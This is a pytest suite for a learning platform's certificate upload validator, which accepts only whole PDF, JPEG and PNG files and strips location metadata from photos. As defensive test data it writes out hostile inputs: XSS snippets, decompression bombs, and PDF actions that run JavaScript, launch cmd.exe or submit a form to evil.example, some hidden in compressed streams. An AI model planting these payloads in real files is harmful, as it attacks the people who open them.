"""A certificate is judged by its bytes: whole files of three kinds come in, and nothing else, however it is made."""

import io
import random
import zlib
from contextlib import suppress

import pytest
from PIL import Image

from certificates.page import draw
from lms.rules.evidence import (
    ACTIVE,
    BROKEN,
    LARGEST_BYTES,
    NO_FILE,
    NOT_A_KIND,
    TOO_BIG_A_PICTURE,
    TOO_LARGE,
    Kind,
    read_document,
)
from lms.rules.refusals import Refusal
from tests.certificates.examples import FACTS
from tests.documents import a_chunk, a_jpeg, a_pdf, a_png, a_segment, a_stream, camera_notes

WHERE = b"52.4068 N, 1.5197 W"


def refused(content: bytes) -> str:
    with pytest.raises(Refusal) as caught:
        read_document(content)
    assert caught.value.field == "file"
    return caught.value.sentence


@pytest.mark.parametrize(
    ("content", "kind"), [(a_pdf(), Kind.PDF), (a_jpeg(), Kind.JPEG), (a_png(), Kind.PNG)], ids=["pdf", "jpeg", "png"]
)
def test_a_whole_file_is_kept_as_it_is(content: bytes, kind: Kind) -> None:
    document = read_document(content)

    assert (document.kind, document.content) == (kind, content)


@pytest.mark.parametrize(
    "content",
    [
        b"<html><script>alert(1)</script>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"GIF89a" + b"\x00" * 50,
        b"PK\x03\x04" + b"\x00" * 50,
        b"MZ" + b"\x00" * 50,
        b" %PDF-1.7",
        b"\x00" * 100,
    ],
)
def test_nothing_else_comes_in(content: bytes) -> None:
    assert refused(content) == NOT_A_KIND


def test_an_empty_file_and_one_too_large_are_told_apart() -> None:
    assert refused(b"") == NO_FILE
    assert refused(a_pdf() + b"\n" * LARGEST_BYTES) == TOO_LARGE


@pytest.mark.parametrize("whole", [a_pdf(), a_jpeg(), a_png()], ids=["pdf", "jpeg", "png"])
def test_a_file_that_is_cut_off_anywhere_is_not_kept(whole: bytes) -> None:
    sentences = {refused(whole[:length]) for length in range(1, len(whole) - 1)}

    assert sentences <= {BROKEN, NOT_A_KIND}


@pytest.mark.parametrize("whole", [a_pdf(), a_jpeg(more=camera_notes(6)), a_png()], ids=["pdf", "jpeg", "png"])
def test_spoilt_bytes_never_break_the_reading(whole: bytes) -> None:
    dice = random.Random(1)
    for _ in range(400):
        spoilt = bytearray(whole)
        for _ in range(dice.randint(1, 6)):
            spoilt[dice.randrange(len(spoilt))] = dice.randrange(256)
        with suppress(Refusal):
            read_document(bytes(spoilt))


@pytest.mark.parametrize(("width", "height"), [(20_001, 1), (10_000, 10_000), (2**32 - 1, 2**32 - 1)])
def test_a_small_file_that_unfolds_into_a_huge_picture_is_turned_away(width: int, height: int) -> None:
    assert refused(a_png(width=width, height=height)) == TOO_BIG_A_PICTURE


def test_a_picture_of_no_size_is_not_whole() -> None:
    assert refused(a_png(width=0)) == BROKEN
    assert refused(a_jpeg(height=0)) == BROKEN
    assert refused(a_png(head=a_chunk(b"tEXt", b"first"))) == BROKEN


@pytest.mark.parametrize("order", ["<", ">"])
@pytest.mark.parametrize("turned", [1, 3, 6, 8])
def test_a_photo_keeps_how_it_is_turned_and_nothing_else_of_the_cameras_notes(turned: int, order: str) -> None:
    content = a_jpeg(
        more=camera_notes(turned, WHERE, order) + a_segment(0xFE, b"taken by " + WHERE), after=b"film" + WHERE
    )

    kept = read_document(content).content

    assert WHERE not in kept
    assert kept.endswith(b"\xff\xd9")
    assert read_document(kept).content == kept
    assert (b"Exif" in kept) == (turned != 1)
    assert camera_turn(kept) == turned


def camera_turn(content: bytes) -> int:
    place = content.find(b"Exif\x00\x00MM\x00\x2a")
    return 1 if place < 0 else int.from_bytes(content[place + 24 : place + 26], "big")


def test_a_picture_keeps_its_colours_and_loses_its_texts() -> None:
    colours = a_segment(0xE2, b"ICC_PROFILE\x00\x01\x01colours")
    assert b"colours" in read_document(a_jpeg(more=colours)).content
    content = a_png(more=a_chunk(b"tEXt", WHERE) + a_chunk(b"eXIf", WHERE) + a_chunk(b"pHYs", b"\x00" * 9))

    kept = read_document(content).content

    assert WHERE not in kept
    assert b"pHYs" in kept


@pytest.mark.parametrize(
    "action",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        b"/OpenAction << /S /Java#53cript /JS (app.alert(1)) >>",
        b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        b"/Names << /EmbeddedFiles 9 0 R >>",
        b"/AcroForm << /XFA 9 0 R >>",
        b"/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>",
    ],
)
def test_a_pdf_that_does_something_is_turned_away_openly_or_hidden(action: bytes) -> None:
    assert refused(a_pdf(action=action)) == ACTIVE
    hidden = a_stream(zlib.compress(action), kind=b"/Type /ObjStm /Filter /FlateDecode")
    assert refused(a_pdf(more=hidden)) == ACTIVE


def test_what_a_picture_inside_a_pdf_happens_to_hold_is_no_action() -> None:
    assert read_document(a_pdf(more=a_stream(b"\x00/JavaScript \xff"))).kind is Kind.PDF


def test_a_pdf_that_unfolds_without_end_is_turned_away() -> None:
    bomb = a_stream(zlib.compress(b" " * 30_000_000), kind=b"/Type /ObjStm /Filter /FlateDecode")

    assert refused(a_pdf(more=bomb)) == BROKEN


def test_every_kind_says_its_media_type_and_ending() -> None:
    assert [(kind.media_type, kind.ending) for kind in Kind] == [
        ("application/pdf", "pdf"),
        ("image/jpeg", "jpg"),
        ("image/png", "png"),
    ]


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
@pytest.mark.parametrize("mode", ["RGB", "L", "CMYK"])
def test_pictures_as_programs_write_them_come_in_and_can_be_opened_again(kind: str, mode: str) -> None:
    if (kind, mode) == ("PNG", "CMYK"):
        mode = "RGBA"
    written, again = io.BytesIO(), Image.new(mode, (40, 30), 3)
    again.save(written, kind, quality=70, progressive=True, optimize=True)

    kept = read_document(written.getvalue()).content

    opened = Image.open(io.BytesIO(kept))
    opened.load()
    assert (opened.size, opened.mode) == ((40, 30), mode)
    assert opened.tobytes() == Image.open(written).tobytes()


def test_a_certificate_of_ours_would_come_in() -> None:
    assert read_document(draw(FACTS)).kind is Kind.PDF
